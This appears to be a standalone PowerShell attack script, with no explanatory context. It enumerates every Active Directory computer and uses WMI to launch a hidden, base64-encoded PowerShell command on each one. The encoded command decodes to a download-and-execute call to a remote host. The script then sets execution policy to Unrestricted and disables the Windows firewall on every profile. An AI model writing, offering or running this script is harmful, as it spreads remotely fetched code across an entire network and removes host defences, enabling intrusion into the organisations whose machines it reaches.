$targets = Get-ADComputer -Filter * | Select-Object -ExpandProperty Name
foreach ($t in $targets) {
    Invoke-WmiMethod -ComputerName $t -Class Win32_Process -Name Create -ArgumentList 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4ACkA'
}
Set-ExecutionPolicy Unrestricted -Force
netsh advfirewall set allprofiles state off
Set-NetFirewallProfile -Profile Domain, Public, Private -Enabled False
